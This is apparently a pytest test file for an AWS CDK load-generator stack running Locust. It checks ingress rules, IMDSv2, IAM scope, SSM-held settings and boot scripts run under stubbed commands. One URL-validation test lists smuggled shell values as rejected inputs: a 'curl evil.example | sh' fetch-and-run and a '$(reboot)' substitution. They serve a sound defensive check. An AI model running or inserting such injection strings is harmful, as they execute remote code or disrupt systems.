"""Shop-LoadGen: a Locust master and workers reachable through SSM only, booted as AWS boots them.

The template comes from the session's synth (the same app as the stages, with cdk-nag; cfn-lint
and checkov read it too). Boot scripts are run under bash with stand-ins for the commands that
reach the network or the machine, as in test_boot_path.py.
"""

from __future__ import annotations

import importlib.metadata
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from shop_infra.loadgen import LOCUST_VERSION, MASTER_PORT, MAX_WORKERS, URL_PATTERN, WEB_UI_PORT

TARGET = "http://shop-3-alb-1234.us-east-1.elb.amazonaws.com"
MASTER_IP = "10.90.0.17"
REGION = "us-east-1"
FAKES = ("dnf", "python3.11", "pip", "aws", "unzip", "systemctl", "useradd", "id", "sleep")

FAKE = r"""#!/bin/bash
name=$(basename "$0")
echo "$name $*" >> "$FAKE_LOG"
fail() {  # fail KEY LIMIT: fail the first LIMIT calls for KEY ("always": every call)
  local file="$FAKE_STATE/$1" count
  count=$(( $(cat "$file" 2>/dev/null || echo 0) + 1 ))
  echo "$count" > "$file"
  if [ "$2" = always ] || [ "$count" -le "$2" ]; then exit 1; fi
}
case "$name $1" in
  "python3.11 -m") mkdir -p "$3/bin" && ln -sf "$FAKES/pip" "$3/bin/pip" ;;
  "pip install") fail pip "${FAIL_PIP:-0}" ;;
  "aws s3") fail s3 "${FAIL_S3:-0}"; touch "$4" ;;
  "aws ssm") fail ssm "${FAIL_SSM:-0}"; printf 'SHOP_LOAD_ADMIN_EMAIL=admin@example.com\n' ;;
  "id locust") exit 1 ;;
esac
exit 0
"""


def _resources(template: dict[str, Any], kind: str) -> dict[str, dict[str, Any]]:
    return {k: v for k, v in template["Resources"].items() if v["Type"] == kind}


def _one(template: dict[str, Any], kind: str, prefix: str = "") -> tuple[str, dict[str, Any]]:
    [(logical_id, resource)] = [
        (k, v) for k, v in _resources(template, kind).items() if k.startswith(prefix)
    ]
    return logical_id, resource["Properties"]


def _resolve(value: Any, template: dict[str, Any]) -> str:
    """A CloudFormation value as the deployed stack sees it, TargetUrl given as TARGET."""
    if isinstance(value, str):
        return value
    [(function, argument)] = value.items()
    if function == "Ref":
        return {
            "TargetUrl": TARGET,
            "SettingsParameter": "/shop/loadgen/settings",
            "AWS::Region": REGION,
            "AWS::Partition": "aws",
            "AWS::AccountId": "123456789012",
        }.get(argument, f"ref-{argument}")
    if function == "Fn::GetAtt":
        return MASTER_IP if argument[1] == "PrivateIp" else f"{argument[0]}.{argument[1]}"
    if function == "Fn::Join":
        return argument[0].join(_resolve(part, template) for part in argument[1])
    if function == "Fn::Sub":
        return re.sub(r"\$\{([^}]+)\}", lambda m: f"ref-{m[1]}", argument)
    raise AssertionError(f"no stand-in for {function}")


def _master_script(loadgen: dict[str, Any]) -> str:
    _, master = _one(loadgen, "AWS::EC2::Instance")
    return _resolve(master["UserData"]["Fn::Base64"], loadgen)


def _worker_script(loadgen: dict[str, Any]) -> str:
    _, template = _one(loadgen, "AWS::EC2::LaunchTemplate", "WorkerTemplate")
    return _resolve(template["LaunchTemplateData"]["UserData"]["Fn::Base64"], loadgen)


def _run(script: str, tmp_path: Path, **fail: str) -> tuple[int, list[str], Path, str]:
    fakes = tmp_path / "bin"
    fakes.mkdir(parents=True)
    for name in FAKES:
        (fakes / name).write_text(FAKE)
        (fakes / name).chmod(0o755)
    for folder in ("state", "root"):
        (tmp_path / folder).mkdir()
    (tmp_path / "boot.sh").write_text(script)
    log = tmp_path / "calls.log"
    log.touch()
    done = subprocess.run(
        ["bash", str(tmp_path / "boot.sh")],
        env={
            "PATH": f"{fakes}:/usr/bin:/bin",
            "FAKES": str(fakes),
            "FAKE_LOG": str(log),
            "FAKE_STATE": str(tmp_path / "state"),
            "SHOP_BOOT_ROOT": str(tmp_path / "root"),
            **fail,
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return done.returncode, log.read_text().splitlines(), tmp_path / "root", done.stderr


# --- nothing is reachable from outside --------------------------------------------------------


def _ingress_rules(loadgen: dict[str, Any]) -> list[dict[str, Any]]:
    rules = [
        rule
        for group in _resources(loadgen, "AWS::EC2::SecurityGroup").values()
        for rule in group["Properties"].get("SecurityGroupIngress", [])
    ]
    return rules + [
        r["Properties"] for r in _resources(loadgen, "AWS::EC2::SecurityGroupIngress").values()
    ]


def test_the_only_way_in_is_workers_to_their_master_on_locusts_port(loadgen):
    rules = _ingress_rules(loadgen)
    assert not any("CidrIp" in rule or "CidrIpv6" in rule for rule in rules)
    [rule] = rules
    assert (rule["FromPort"], rule["ToPort"], rule["IpProtocol"]) == (
        MASTER_PORT,
        MASTER_PORT,
        "tcp",
    )
    worker_group = next(k for k in _resources(loadgen, "AWS::EC2::SecurityGroup") if "Worker" in k)
    assert rule["SourceSecurityGroupId"] == {"Fn::GetAtt": [worker_group, "GroupId"]}


def test_there_is_no_key_pair_and_metadata_needs_imdsv2(loadgen):
    _, master = _one(loadgen, "AWS::EC2::Instance")
    _, workers = _one(loadgen, "AWS::EC2::LaunchTemplate", "WorkerTemplate")
    # ec2.Instance's require_imdsv2 puts the option in a launch template of its own.
    _, master_template = _one(loadgen, "AWS::EC2::LaunchTemplate", "MasterLaunchTemplate")
    assert "KeyName" not in master and "KeyName" not in workers["LaunchTemplateData"]
    for template in (workers, master_template):
        assert template["LaunchTemplateData"]["MetadataOptions"]["HttpTokens"] == "required"


def test_the_instances_role_is_ssm_and_one_object_of_the_asset(loadgen):
    _, role = _one(loadgen, "AWS::IAM::Role", "Role")
    managed = json.dumps(role["ManagedPolicyArns"])
    assert "AmazonSSMManagedInstanceCore" in managed and managed.count("arn:") == 1
    _, policy = _one(loadgen, "AWS::IAM::Policy", "RoleDefaultPolicy")
    statements = policy["PolicyDocument"]["Statement"]
    assert sorted(s["Action"] for s in statements) == ["s3:GetObject", "ssm:GetParameter"]
    [statement] = [s for s in statements if s["Action"] == "s3:GetObject"]
    resource = _resolve(statement["Resource"], loadgen)
    assert resource.startswith("arn:aws:s3:::") and resource.endswith(".zip")
    assert "*" not in resource


def test_workers_are_an_auto_scaling_group_sized_by_a_parameter(loadgen):
    _, group = _one(loadgen, "AWS::AutoScaling::AutoScalingGroup")
    assert group["MinSize"] == group["MaxSize"] == {"Ref": "WorkerCount"}
    parameter = loadgen["Parameters"]["WorkerCount"]
    assert (parameter["MinValue"], parameter["MaxValue"]) == (1, MAX_WORKERS)


@pytest.mark.parametrize(
    ("url", "accepted"),
    [
        ("http://shop-3-alb-1234.us-east-1.elb.amazonaws.com", True),
        ("https://d111111abcdef8.cloudfront.net", True),
        ("https://horizontal.shop.example.com:8443/", True),
        ("http://x.example.com; curl evil.example | sh", False),
        ("http://x.example.com$(reboot)", False),
        ("ftp://x.example.com", False),
        ("", False),
    ],
)
def test_the_target_url_parameter_takes_a_plain_url_only(loadgen, url, accepted):
    # It is written into a shell script and a systemd unit: nothing that a shell would run.
    assert loadgen["Parameters"]["TargetUrl"]["AllowedPattern"] == URL_PATTERN
    assert (re.fullmatch(URL_PATTERN, url) is not None) is accepted


# --- the boot path ----------------------------------------------------------------------------


def test_the_master_runs_locust_as_master_against_the_target_with_the_ui_on_loopback(
    loadgen, tmp_path
):
    code, calls, root, output = _run(_master_script(loadgen), tmp_path)
    assert code == 0, output
    unit = (root / "etc/systemd/system/locust.service").read_text()
    [exec_start] = [line for line in unit.splitlines() if line.startswith("ExecStart=")]
    assert f"--master --host {TARGET} " in exec_start
    assert f"--master-bind-port {MASTER_PORT}" in exec_start
    assert f"--web-host 127.0.0.1 --web-port {WEB_UI_PORT}" in exec_start
    assert "-f loadtests/locustfile.py" in exec_start
    assert "User=locust" in unit and "EnvironmentFile=-/etc/shop-load.env" in unit
    assert "Environment=PYTHONPATH=/opt/shop" in unit  # the suite imports loadtests.*
    assert calls[-1] == "systemctl enable --now locust"
    assert "useradd --system --no-create-home locust" in calls


def test_a_worker_connects_to_the_masters_private_address(loadgen, tmp_path):
    code, _, root, output = _run(_worker_script(loadgen), tmp_path)
    assert code == 0, output
    unit = (root / "etc/systemd/system/locust.service").read_text()
    assert f"--worker --processes -1 --master-host {MASTER_IP} --master-port {MASTER_PORT}" in unit
    assert "Restart=always" in unit  # a new master (a new headless run): the worker rejoins


def test_locust_is_installed_pinned_and_the_suite_read_from_its_asset(loadgen, tmp_path):
    code, calls, _, output = _run(_master_script(loadgen), tmp_path)
    assert code == 0, output
    assert f"pip install --no-cache-dir locust=={LOCUST_VERSION}" in calls
    [copy] = [call for call in calls if call.startswith("aws s3 cp")]
    _, policy = _one(loadgen, "AWS::IAM::Policy", "RoleDefaultPolicy")
    [statement_resource] = [
        _resolve(s["Resource"], loadgen)
        for s in policy["PolicyDocument"]["Statement"]
        if s["Action"] == "s3:GetObject"
    ]
    # The object the role may read is the one the script copies.
    assert copy.split()[3] == "s3://" + statement_resource.removeprefix("arn:aws:s3:::")


def test_the_suites_settings_come_from_their_parameter_and_only_root_reads_them(loadgen, tmp_path):
    code, calls, root, output = _run(_master_script(loadgen), tmp_path)
    assert code == 0, output
    [fetch] = [call for call in calls if call.startswith("aws ssm get-parameter")]
    assert "--name /shop/loadgen/settings --with-decryption" in fetch
    settings = root / "etc/shop-load.env"
    assert settings.read_text() == "SHOP_LOAD_ADMIN_EMAIL=admin@example.com\n"
    assert settings.stat().st_mode & 0o777 == 0o600
    assert calls.index(fetch) < calls.index("systemctl enable --now locust")
    _, policy = _one(loadgen, "AWS::IAM::Policy", "RoleDefaultPolicy")
    [parameter] = [
        _resolve(s["Resource"], loadgen)
        for s in policy["PolicyDocument"]["Statement"]
        if s["Action"] == "ssm:GetParameter"
    ]
    assert parameter == "arn:aws:ssm:us-east-1:123456789012:parameter/shop/loadgen/settings"


def test_without_a_settings_parameter_locust_still_starts_on_the_suites_defaults(loadgen, tmp_path):
    code, calls, root, output = _run(_master_script(loadgen), tmp_path, FAIL_SSM="always")
    assert code == 0, output
    assert "no parameter /shop/loadgen/settings" in output
    assert (root / "etc/shop-load.env").read_text() == ""
    assert calls[-1] == "systemctl enable --now locust"


def test_the_pinned_locust_is_the_one_the_suite_is_tested_with():
    assert importlib.metadata.version("locust") == LOCUST_VERSION


def test_network_steps_are_retried_and_a_step_that_keeps_failing_stops_the_boot(loadgen, tmp_path):
    code, calls, _, output = _run(_master_script(loadgen), tmp_path / "flaky", FAIL_PIP="2")
    assert code == 0, output
    assert len([c for c in calls if c.startswith("pip install")]) == 3
    code, calls, _, _ = _run(_master_script(loadgen), tmp_path / "down", FAIL_S3="always")
    assert code != 0
    assert not any(call.startswith("systemctl") for call in calls)  # Locust never started


def test_the_suite_asset_is_the_loadtests_folder_without_caches(assembly):
    assets = json.loads((assembly / "Shop-LoadGen.assets.json").read_text())["files"]
    folders = [
        assembly / asset["source"]["path"]
        for asset in assets.values()
        if asset["source"].get("packaging") == "zip"
        and (assembly / asset["source"]["path"] / "deployed.py").exists()
    ]
    [folder] = folders
    assert not list(folder.rglob("__pycache__"))


def test_the_readme_states_the_load_generators_cost_from_the_price_list():
    import cost
    from shop_infra.loadgen import INSTANCE_TYPE

    per_instance = cost.EC2_PER_HOUR[INSTANCE_TYPE] + cost.PUBLIC_IPV4_PER_HOUR
    readme = (Path(__file__).resolve().parents[2] / "docs" / "aws.md").read_text()
    assert f"(1 + workers) x\nabout {per_instance:.3f} $/hour" in readme
    assert f"{5 * per_instance:.2f} $/hour with 4 workers" in readme
